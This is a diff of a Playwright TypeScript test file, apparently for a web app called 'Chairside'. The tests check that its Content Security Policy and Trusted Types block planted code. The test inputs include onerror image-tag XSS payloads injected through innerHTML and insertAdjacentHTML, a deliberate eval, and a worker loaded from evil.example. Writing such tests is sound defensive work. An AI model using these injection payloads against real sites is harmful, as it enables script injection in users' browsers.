@@ -23,12 +23,21 @@ declare global {
   }
 }
 
-/** Records, from before a page's first script: what was blocked, which policies were created, and how often text became code. */
+/**
+ * Records, from before a page's first script: what was blocked, which policies were created, and
+ * how often text became code.
+ */
 const watch = (page: Page) =>
   page.addInitScript(() => {
     window.seen = { violations: [], policies: [], functions: 0 };
-    document.addEventListener('securitypolicyviolation', (event) => window.seen.violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
-    const factory = (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): Policy } }).trustedTypes;
+    document.addEventListener('securitypolicyviolation', (event) =>
+      window.seen.violations.push(`${event.effectiveDirective} ${event.blockedURI}`),
+    );
+    const factory = (
+      globalThis as unknown as {
+        trustedTypes: { createPolicy(name: string, rules: object): Policy };
+      }
+    ).trustedTypes;
     const create = factory.createPolicy.bind(factory);
     factory.createPolicy = (name, rules) => {
       window.seen.policies.push(name);
@@ -46,13 +55,21 @@ const watch = (page: Page) =>
   });
 const seen = (page: Page) => page.evaluate(() => window.seen);
 
-test('[S2] [S3] [S4] no screen, signed in or out, violates the policy, creates another one or turns text into code', async ({ page, front }) => {
+test('[S2] [S3] [S4] no screen, signed in or out, violates the policy, creates another one or turns text into code', async ({
+  page,
+  front,
+}) => {
   await watch(page);
-  const walk = async (rows: readonly ScreenRow[], go: (page: Page, path: string) => Promise<unknown>) => {
+  const walk = async (
+    rows: readonly ScreenRow[],
+    go: (page: Page, path: string) => Promise<unknown>,
+  ) => {
     for (const row of rows) {
       const path = visitOf(row);
       await go(page, path);
-      await expect(page, path).toHaveTitle(new RegExp(`(^| - )${t(`screen.${row.route}`)} - Chairside$`));
+      await expect(page, path).toHaveTitle(
+        new RegExp(`(^| - )${t(`screen.${row.route}`)} - Chairside$`),
+      );
       await expect(page.getByRole('heading', { level: 1 }).first(), path).toBeVisible();
       await expect(page.locator('main [aria-busy="true"]'), path).toHaveCount(0);
       const { violations, policies, functions } = await seen(page);
@@ -66,8 +83,13 @@ test('[S2] [S3] [S4] no screen, signed in or out, violates the policy, creates a
   expect(front.arrived.filter(({ path }) => path.startsWith('/csp-report'))).toEqual([]);
 });
 
-test('[S2] planted code does not run: inline script, handler attribute, eval, data: script, innerHTML', async ({ page, quiet }) => {
-  quiet.allow(/Content Security Policy|Trusted ?Type|requires? 'Trusted|unsafe-eval|Executing inline|Loading the script/i);
+test('[S2] planted code does not run: inline script, handler attribute, eval, data: script, innerHTML', async ({
+  page,
+  quiet,
+}) => {
+  quiet.allow(
+    /Content Security Policy|Trusted ?Type|requires? 'Trusted|unsafe-eval|Executing inline|Loading the script/i,
+  );
   await watch(page);
   await page.goto('/login');
   await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
@@ -92,8 +114,12 @@ test('[S2] planted code does not run: inline script, handler attribute, eval, da
           },
           // biome-ignore lint/security/noGlobalEval: what must not work is tried
           eval: () => globalThis.eval(run),
-          innerHTML: () => Object.assign(document.createElement('div'), { innerHTML: `<img src=x onerror='${run}'>` }),
-          markup: () => document.body.insertAdjacentHTML('beforeend', `<img src=x onerror='${run}'>`),
+          innerHTML: () =>
+            Object.assign(document.createElement('div'), {
+              innerHTML: `<img src=x onerror='${run}'>`,
+            }),
+          markup: () =>
+            document.body.insertAdjacentHTML('beforeend', `<img src=x onerror='${run}'>`),
           worker: () => new Worker('https://evil.example/worker.js'),
         };
         setTimeout(() => {
@@ -110,7 +136,9 @@ test('[S2] planted code does not run: inline script, handler attribute, eval, da
         }, 0);
       }),
   );
-  expect(refused).toEqual(expect.arrayContaining(['inline text', 'data script', 'eval', 'innerHTML', 'markup', 'worker']));
+  expect(refused).toEqual(
+    expect.arrayContaining(['inline text', 'data script', 'eval', 'innerHTML', 'markup', 'worker']),
+  );
   expect((await seen(page)).violations.length).toBeGreaterThanOrEqual(8);
   expect(await page.title()).not.toBe('planted');
 });
